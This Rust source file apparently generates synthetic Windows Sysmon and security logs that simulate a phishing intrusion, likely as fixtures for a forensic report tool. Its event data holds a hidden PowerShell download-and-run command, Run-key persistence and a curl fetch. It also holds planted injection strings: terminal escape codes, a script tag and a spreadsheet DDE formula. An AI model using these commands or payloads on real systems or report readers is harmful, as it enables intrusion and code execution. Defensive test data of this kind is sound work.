//! FIN-WS07, the one machine that was broken into.
//!
//! On the evening of 3 March a script opened from a mail queries pastebin.com; that part is in a
//! log that was archived since. The next morning PowerShell fetches a second stage, which settles
//! below AppData and reports to a Telegram bot for hours. Most of it lies after the first chunk,
//! which is the only one that the log's header counts.

use crate::error::Error;
use crate::event::Event;
use crate::log::LogWriter;
use crate::record::Style;
use crate::story::journal::{Journal, Log, SYSMON_LOG, evening, morning};
use crate::truth::SampleFile;

const HOST: &str = "FIN-WS07";
const USER: &str = "m.keller";
const ARCHIVE: &str = "Archive-Microsoft-Windows-Sysmon%4Operational-2025-03-03-19-40-12-501.evtx";

const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const WSCRIPT: &str = r"C:\Windows\System32\wscript.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const IMPLANT: &str = r"C:\Users\m.keller\AppData\Roaming\WinSync\winsync.exe";

const PASTEBIN: &str = "::ffff:203.0.113.10;::ffff:203.0.113.11;";
const TELEGRAM: &str = "2001:db8::4:220;::ffff:203.0.113.220;";

pub(super) fn files() -> Result<Vec<SampleFile>, Error> {
    Ok(vec![archived_log()?, sysmon_log()?, security_log()?, system_log()?, application_log()?])
}

/// Makes the log of the evening before. An archived log has the layout of the live log that it was,
/// but was closed properly.
fn archived_log() -> Result<SampleFile, Error> {
    let writer = LogWriter::new(Style::Live).dirty(false).stale_header(false).first_number(88_101);
    let mut log = Log::new("evidence", HOST, ARCHIVE, writer, Style::Live);
    let mut journal = Journal::new(HOST, USER, evening(), 88_101);
    journal.routine(38);
    journal.add(
        40,
        Event::process_create(
            WSCRIPT,
            r#"wscript.exe "C:\Users\m.keller\Downloads\Invoice.js""#,
            r"C:\Windows\explorer.exe",
        )
        .of_process(5832),
    );
    journal.add(2, Event::dns_query("pastebin.com", WSCRIPT).answered("0", PASTEBIN).of_process(5832));
    journal.add(1, Event::network_connection(WSCRIPT, "203.0.113.10", 443).of_process(5832));
    journal.routine(24);
    log.push(journal.take())?;
    Ok(log.finish())
}

fn sysmon_log() -> Result<SampleFile, Error> {
    let mut log = Log::live("evidence", HOST, SYSMON_LOG);
    log.writer = LogWriter::new(Style::Live).first_number(88_166);
    let mut journal = Journal::new(HOST, USER, morning(), 88_166);
    journal.routine(60);
    second_stage(&mut journal);
    journal.routine(55);
    beacon(&mut journal);
    hostile_strings(&mut journal);
    journal.routine(40);
    log.push(journal.take())?;
    Ok(log.finish())
}

/// Adds the events of the attack's second stage: PowerShell fetches it and starts it.
fn second_stage(journal: &mut Journal) {
    let command = "powershell.exe -nop -w hidden -c iwr https://pastebin.com/raw/Xy12Ab34";
    journal.add(12, Event::process_create(POWERSHELL, command, WSCRIPT).of_process(9044));
    journal.add(1, Event::dns_query("pastebin.com", POWERSHELL).answered("0", PASTEBIN).of_process(9044));
    journal.add(1, Event::network_connection(POWERSHELL, "203.0.113.10", 443).of_process(9044));
    journal.add(3, Event::file_create(POWERSHELL, IMPLANT).of_process(9044));
    journal.add(1, Event::process_create(IMPLANT, "winsync.exe /quiet", POWERSHELL).of_process(9120));
    journal.add(
        5,
        Event::registry_value(IMPLANT, r"HKU\Software\Microsoft\Windows\CurrentVersion\Run\WinSync", IMPLANT)
            .of_process(9120),
    );
    journal.add(8, Event::dns_query("t.me", IMPLANT).answered("0", "::ffff:203.0.113.99;").of_process(9120));
    // The same name is queried twice more: once the query fails, once a second process makes it.
    journal.add(4, Event::dns_query("t.me", IMPLANT).answered("1460", "-").of_process(9120));
    journal.add(9, Event::dns_query("Pastebin.com", POWERSHELL).answered("0", PASTEBIN).of_process(9188));
}

/// Adds the events of the implant, which reports every half hour and runs a command or two.
fn beacon(journal: &mut Journal) {
    for round in 0_u32..6 {
        let query = Event::dns_query("api.telegram.org", IMPLANT).answered("0", TELEGRAM).of_process(9120);
        journal.add(1500, query);
        journal.add(1, Event::network_connection(IMPLANT, "203.0.113.220", 443).of_process(9120));
        if round == 3 {
            journal.add(2, Event::process_create(CMD, "cmd.exe /c curl.exe -O", IMPLANT).of_process(9904));
            journal.add(
                1,
                Event::dns_query("cdn.discordapp.com", CMD)
                    .answered("0", "::ffff:203.0.113.130;::ffff:203.0.113.131;")
                    .of_process(9904),
            );
        }
        journal.routine(22);
    }
}

/// Adds DNS queries for names that are meant to harm whoever reads the report.
fn hostile_strings(journal: &mut Journal) {
    journal.add(
        20,
        Event::dns_query("\u{1b}[2J\u{1b}[31mpastebin.com\u{7}", POWERSHELL)
            .answered("123", "-")
            .of_process(9188),
    );
    journal.add(
        11,
        Event::dns_query("discord.gg", r"C:\Users\Public\<script>alert(1)</script>.exe")
            .answered("9003", "-")
            .of_process(9960),
    );
    journal.add(6, Event::dns_query("=cmd|' /C calc'!A0", IMPLANT).answered("9560", "-").of_process(9120));
}

fn security_log() -> Result<SampleFile, Error> {
    let mut log = Log::live("evidence", HOST, "Security.evtx");
    let mut journal = Journal::new(HOST, USER, morning(), 410_220);
    journal.audit(30);
    // Security 4688 has the command line, too, but is no DNS query.
    journal.add(
        9,
        Event::audited_process(POWERSHELL, "powershell.exe -c iwr https://pastebin.com/raw/Xy12Ab34"),
    );
    journal.audit(30);
    log.push(journal.take())?;
    Ok(log.finish())
}

fn system_log() -> Result<SampleFile, Error> {
    let mut log = Log::live("evidence", HOST, "System.evtx");
    let mut journal = Journal::new(HOST, USER, morning(), 15_602);
    journal.services(40);
    log.push(journal.take())?;
    Ok(log.finish())
}

fn application_log() -> Result<SampleFile, Error> {
    let mut log = Log::live("evidence", HOST, "Application.evtx");
    let mut journal = Journal::new(HOST, USER, morning(), 7_410);
    for session in 0..12 {
        let time = journal.time();
        journal.add(1900, Event::restart_session(session, time));
    }
    log.push(journal.take())?;
    Ok(log.finish())
}
